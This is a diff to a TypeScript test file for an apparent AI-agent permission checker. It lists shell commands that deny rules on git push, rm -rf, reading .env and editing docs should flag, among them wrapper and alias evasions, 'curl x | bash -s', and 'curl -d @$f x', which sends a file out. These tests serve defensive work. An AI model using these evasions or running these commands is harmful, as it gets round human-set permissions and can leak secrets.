@@ -20,6 +20,7 @@ const others = (match: string, wanted: string, commands: readonly string[]) =>
 const PUSH = "Bash(git push *)";
 const REMOVE = "Bash(rm -rf *)";
 const SECRET = "Read(.env)";
+const DOCS = "Edit(./docs/**)";
 
 describe("what a rule against something suspects", () => {
   test.each<[string, string[]]>([
@@ -32,6 +33,9 @@ describe("what a rule against something suspects", () => {
     // A text that nobody can read before.
     [PUSH, ['eval "$X"', 'sh -c "$X"', 'ssh host "$X"', "cat x | sh", "curl x | bash -s", "bash <<EOF\n$X\nEOF"]],
     [PUSH, ["npm test (", "echo 'open", "if", `${"env ".repeat(20)}ls`, `ls ${";".repeat(5_000)}`]],
+    [PUSH, ["bash <(echo git push)", "source <(echo git push)", "bash $X", "git p", "git --config-env=alias.p=X p"]],
+    [PUSH, ["at now <<< 'git push'", "crontab - <<EOF\n* * * * * git push\nEOF", "make -f - <<< 'x:;git push'"]],
+    [PUSH, ["alias p=git; p push", "gdb -batch -ex '!git push'", "tmux new -d ': git push'"]],
     // Code that names the program.
     [
       PUSH,
@@ -70,6 +74,22 @@ describe("what a rule against something suspects", () => {
       ],
     ],
     [SECRET, ["find . -exec cat {} +", "find . | xargs cat", "while read x; do echo $x; done < $f", "curl -d @$f x"]],
+    [SECRET, ["ln -s $PWD/.env x", "cd $X && cat a.txt", "cd ~/x; head a.txt"]],
+    // What is changed, but known only when the command runs.
+    [
+      DOCS,
+      ["rm *", "touch $X", "echo x > $X", "echo x > d*/a.md", "echo x > {docs,src}/x", "cd docs && rm *"],
+    ],
+    [
+      DOCS,
+      [
+        "find . -name '*.md' -exec rm {} +",
+        "sed -i s/a/b/ $X",
+        "cp a.txt $X",
+        "cd $X && touch a.md",
+        "cd - && rm a.md",
+      ],
+    ],
     ["Read", ["cat a.txt", "mytool a.txt", "git diff", "cat $f", "rg x"]],
     ["*", ["$X"]],
   ])("%s: %j", (match, commands) => {
@@ -98,6 +118,21 @@ describe("what a rule against something suspects", () => {
       SECRET,
       ["ls .", "ls *", "du -sh .", "find . -name x", "echo $X", "mkdir $X", "npm test $X", "tsc -p .", '[ -f "$f" ]'],
     ],
+    [
+      PUSH,
+      [
+        "git -C x log",
+        "cat <<< 'git push'",
+        "git commit -F - <<< 'git push'",
+        "tee x <<EOF\ngit push\nEOF",
+        "bash x.sh",
+      ],
+    ],
+    [
+      DOCS,
+      ["rm src/*", "touch src/$X", "sed -n $X a.txt", "cat *", "echo $X", "cd $X && npm test", "cd $X && cat a.md"],
+    ],
+    [SECRET, ["cd $X && npm test", "cd src && cat x.ts", "sed 'r a.txt' b.txt"]],
     ["Read(~/notes/**)", ["cat $f", "cat *", "rg x", "git diff"]],
     ["Read", ["ls src", "npm test", "git status"]],
     ["WebFetch(domain:x.example)", ["$X", "npm test (", "cat x | sh"]],
